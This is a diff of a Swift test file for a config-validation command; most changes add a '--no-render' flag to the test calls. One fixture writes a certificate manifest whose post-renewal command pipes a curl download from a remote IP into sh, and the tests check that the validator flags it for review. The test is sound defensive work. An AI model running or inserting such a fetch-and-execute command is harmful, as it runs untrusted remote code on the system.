@@ -30,10 +30,10 @@ import Testing
         let root = try makeConfig(vmIP: "10.0.0.6/24")
         defer { try? FileManager.default.removeItem(at: root) }
         let (output, valid) = try ValidateCommand.report(
-            source: FolderSource(root: root), layout: ConfigLayout(configPath: "conf"), format: .text)
+            source: FolderSource(root: root), layout: ConfigLayout(configPath: "conf"), format: .text, render: false)
         #expect(valid)
         #expect(String(decoding: output, as: UTF8.self) == "0 errors, 0 warnings\n")
-        let command = try ValidateCommand.parse([root.path, "--config-path", "conf"])
+        let command = try ValidateCommand.parse([root.path, "--config-path", "conf", "--no-render"])
         try command.run()
     }
 
@@ -49,16 +49,16 @@ import Testing
             #"[{"common_name": "a.test", "cert_path": "/quickOS/vm-persistent-data/1/a.crt", "key_path": "/quickOS/vm-persistent-data/1/a.key", "post_renewal_command": "curl -s http://203.0.113.66/x | sh"}]"#
                 .utf8
         ).write(to: root.appendingPathComponent("conf/certificate-manifest.json"))
-        let alone = try ValidateCommand.parse([root.path, "--config-path", "conf"]).execute()
+        let alone = try ValidateCommand.parse([root.path, "--config-path", "conf", "--no-render"]).execute()
         let aloneText = String(decoding: alone.stdout, as: UTF8.self)
         #expect(alone.status == 0)
         #expect(aloneText.contains("info: certificate entry 0 (a.test): post_renewal_command listed for review"), "\(aloneText)")
-        let compared = try ValidateCommand.parse([root.path, "--config-path", "conf", "--base", base.path]).execute()
+        let compared = try ValidateCommand.parse([root.path, "--config-path", "conf", "--no-render", "--base", base.path]).execute()
         let text = String(decoding: compared.stdout, as: UTF8.self)
         #expect(compared.status == 0)
         #expect(text.contains("conf/certificate-manifest.json:1:131: warning: certificate entry 0 (a.test): post_renewal_command new: \"curl -s http://203.0.113.66/x | sh\""), "\(text)")
         #expect(text.contains("(repository-command)") && text.hasSuffix("0 errors, 1 warning\n"))
-        let same = try ValidateCommand.parse([root.path, "--config-path", "conf", "--base", root.path]).execute()
+        let same = try ValidateCommand.parse([root.path, "--config-path", "conf", "--no-render", "--base", root.path]).execute()
         #expect(String(decoding: same.stdout, as: UTF8.self) == "0 errors, 0 warnings\n")
     }
 
